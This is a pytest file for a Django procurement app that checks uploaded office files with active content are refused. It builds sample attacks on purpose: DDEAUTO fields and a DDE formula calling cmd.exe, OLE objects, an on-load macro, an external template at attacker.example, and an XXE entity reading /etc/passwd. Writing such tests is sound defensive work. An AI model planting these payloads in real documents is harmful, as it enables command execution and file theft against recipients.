"""Office files that run or fetch something when opened are refused (README, "Documents").

Each file is a real document from tests/documents/files.py with one thing added,
the way an attacker's tool or a careless template would write it.
"""

from __future__ import annotations

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError

from buyersgroup.core.models import SecurityEvent
from buyersgroup.documents import services
from buyersgroup.documents.models import Document
from tests.documents import files
from tests.documents.conftest import stored_files

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ODF_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"'
)


def _read(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


def docx_with_body(extra: str) -> bytes:
    """A DOCX whose body starts with ``extra`` (WordprocessingML)."""
    original = files.docx_bytes()
    document = _read(original, "word/document.xml").replace(b"<w:body>", b"<w:body>" + extra.encode(), 1)
    return files.rezip(original, replace={"word/document.xml": document})


def docx_with_relationship(rel_type: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    original = files.docx_bytes()
    rels = _read(original, "word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        f'<Relationship Id="rId99" Type="{REL}/{rel_type}" Target="{target}"{mode}/></Relationships>'.encode(),
    )
    return files.rezip(original, replace={"word/_rels/document.xml.rels": rels})


def docx_with_ole_object() -> bytes:
    """What Word writes for an embedded object: an OLE part, its content type, a relationship and o:OLEObject."""
    original = docx_with_body(
        '<w:p><w:r><w:object xmlns:o="urn:schemas-microsoft-com:office:office">'
        '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" r:id="rId98" '
        f'xmlns:r="{REL}"/></w:object></w:r></w:p>'
    )
    rels = _read(original, "word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        f'<Relationship Id="rId98" Type="{REL}/oleObject" Target="embeddings/oleObject1.bin"/></Relationships>'.encode(),
    )
    return files.rezip(
        original,
        replace={"word/_rels/document.xml.rels": rels},
        add={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 an OLE compound file"},
    )


def docx_with_only_the_ole_element() -> bytes:
    return docx_with_body('<w:p><w:r><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link"/></w:r></w:p>')


def docx_with_dde_simple_field() -> bytes:
    return docx_with_body(
        '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot; ">'
        "<w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>"
    )


def docx_with_dde_split_over_runs() -> bytes:
    """The field code cut in two runs, as editing leaves it: " DD" + "EAUTO …"."""
    return docx_with_body(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> dd</w:instrText></w:r>'
        '<w:r><w:instrText xml:space="preserve">eauto c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def docx_with_harmless_fields() -> bytes:
    """Page numbers and a table of contents are fields too, and fine."""
    return docx_with_body(
        '<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> TOC \\o "1-3" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def docx_with_external_entity() -> bytes:
    original = files.docx_bytes()
    document = _read(original, "word/document.xml")
    declaration, rest = document.split(b"\n", 1)
    xxe = b'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    rest = rest.replace(b"Refurbished laptops", b"&xxe; Refurbished laptops", 1)
    return files.rezip(original, replace={"word/document.xml": declaration + b"\n" + xxe + rest})


def xlsx_with_formula(formula: str) -> bytes:
    import openpyxl

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["Criterion", "Weight"])
    sheet.append([files.SENTENCE, formula])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_with_ole_object() -> bytes:
    original = files.xlsx_bytes()
    sheet = _read(original, "xl/worksheets/sheet1.xml").replace(
        b"</worksheet>", f'<oleObjects><oleObject progId="Package" shapeId="1025" r:id="rId9" xmlns:r="{REL}"/></oleObjects></worksheet>'.encode()
    )
    return files.rezip(
        original,
        replace={"xl/worksheets/sheet1.xml": sheet},
        add={"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 OLE"},
    )


def xlsx_with_external_link() -> bytes:
    original = files.xlsx_bytes()
    rels = _read(original, "xl/_rels/workbook.xml.rels").replace(
        b"</Relationships>",
        f'<Relationship Id="rId99" Type="{REL}/externalLinkPath" Target="\\\\attacker\\share\\book.xlsx" '
        f'TargetMode="External"/></Relationships>'.encode(),
    )
    return files.rezip(original, replace={"xl/_rels/workbook.xml.rels": rels})


def odt_with(extra: str, manifest_entry: str = "") -> bytes:
    original = files.odt_bytes()
    content = _read(original, "content.xml").replace(b"<office:text>", b"<office:text>" + extra.encode(), 1)
    replace = {"content.xml": content}
    if manifest_entry:
        manifest = _read(original, "META-INF/manifest.xml")
        replace["META-INF/manifest.xml"] = manifest.replace(b"</manifest:manifest>", manifest_entry.encode() + b"</manifest:manifest>")
    return files.rezip(original, replace=replace)


def odt_with_event_listener() -> bytes:
    return odt_with(
        f"<office:event-listeners {ODF_NS}>"
        '<script:event-listener script:language="ooo:script" script:event-name="dom:load" '
        'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
        "</office:event-listeners>"
    )


def odt_with_ole_object() -> bytes:
    return odt_with(
        f'<draw:frame {ODF_NS}><draw:object-ole xlink:href="./Object 1"/></draw:frame>',
        manifest_entry='<manifest:file-entry manifest:full-path="Object 1" '
        'manifest:media-type="application/vnd.sun.star.oleobject"/>',
    )


def odt_with_dde() -> bytes:
    return odt_with(
        f'<text:dde-connection-decls {ODF_NS}><text:dde-connection-decl office:name="x" '
        'office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="A1"/></text:dde-connection-decls>'
    )


def odt_with_remote_picture() -> bytes:
    return odt_with(f'<draw:frame {ODF_NS}><draw:image xlink:href="https://tracker.example/pixel.png"/></draw:frame>')


def odt_with_hyperlink() -> bytes:
    return odt_with(f'<text:p {ODF_NS}><text:a xlink:href="https://www.bosa.belgium.be/">BOSA</text:a></text:p>')


OLE = ("embedded_objects", "has embedded objects (OLE objects or controls) inside it")
DDE = ("dde", "contains DDE fields or links")
EXTERNAL = ("external_content", "loads content from outside itself")
MACROS = ("macros", "contains macros")
XML = ("unsafe_xml", "XML declarations that office software does not write")

REFUSED = [
    ("DOCX with an embedded OLE object", "spec.docx", docx_with_ole_object, OLE),
    ("DOCX with an OLE element only", "spec.docx", docx_with_only_the_ole_element, OLE),
    ("XLSX with an embedded OLE object", "grid.xlsx", xlsx_with_ole_object, OLE),
    ("ODT with an embedded OLE object", "spec.odt", odt_with_ole_object, OLE),
    ("DOCX with a DDEAUTO field", "spec.docx", docx_with_dde_simple_field, DDE),
    ("DOCX with a DDE field split over runs", "spec.docx", docx_with_dde_split_over_runs, DDE),
    ("XLSX with a DDE formula", "grid.xlsx", lambda: xlsx_with_formula("=cmd|' /C calc'!A0"), DDE),
    ("ODT with a DDE connection", "spec.odt", odt_with_dde, DDE),
    ("DOCX with an external template", "spec.docx",
     lambda: docx_with_relationship("attachedTemplate", "http://attacker.example/t.dotm"), EXTERNAL),
    ("DOCX with an external picture", "spec.docx",
     lambda: docx_with_relationship("image", "file://attacker.example/share/pixel.png"), EXTERNAL),
    ("XLSX linked to an outside workbook", "grid.xlsx", xlsx_with_external_link, EXTERNAL),
    ("ODT with a remote picture", "spec.odt", odt_with_remote_picture, EXTERNAL),
    ("ODT with an event listener", "spec.odt", odt_with_event_listener, MACROS),
    ("DOCX declaring an external entity", "spec.docx", docx_with_external_entity, XML),
]

ACCEPTED = [
    ("DOCX with a link to a website", "spec.docx",
     lambda: docx_with_relationship("hyperlink", "https://www.publicprocurement.be/")),
    ("DOCX with page numbers and a table of contents", "spec.docx", docx_with_harmless_fields),
    ("XLSX with ordinary formulas", "grid.xlsx", lambda: xlsx_with_formula("=SUM(B1:B1)*2")),
    ("ODT with a link to a website", "spec.odt", odt_with_hyperlink),
]


def attach(entry, name, data, by):
    return services.attach(entry, files.upload(name, data), doc_type="specification", language="nl", by=by)


@pytest.mark.parametrize(("case", "name", "build", "refusal"), REFUSED, ids=[case[0] for case in REFUSED])
def test_active_content_is_refused_and_logged(draft, alice, case, name, build, refusal):
    code, message = refusal
    data = build()
    with pytest.raises(ValidationError) as refused:
        attach(draft, name, data, alice)

    assert refused.value.code == code
    assert message in refused.value.messages[0]
    assert Document.objects.count() == 0 and stored_files() == []
    assert SecurityEvent.objects.get(kind="upload_refused").detail["reason"] == code


@pytest.mark.parametrize(("case", "name", "build"), ACCEPTED, ids=[case[0] for case in ACCEPTED])
def test_ordinary_documents_with_links_and_fields_are_accepted(draft, alice, case, name, build):
    document = attach(draft, name, build(), alice)
    assert document.original_name == name
    assert list(draft.documents.all()) == [document]


def test_the_member_sees_why_on_the_upload_form(client, draft, alice):
    client.force_login(alice)
    from django.urls import reverse

    response = client.post(
        reverse("tenders:upload_document", args=[draft.pk]),
        {"file": files.upload("spec.docx", docx_with_dde_simple_field()), "doc_type": "specification", "language": "nl"},
    )
    assert response.status_code == 400
    assert "This file contains DDE fields or links, which can start programs when it is opened." in response.content.decode()
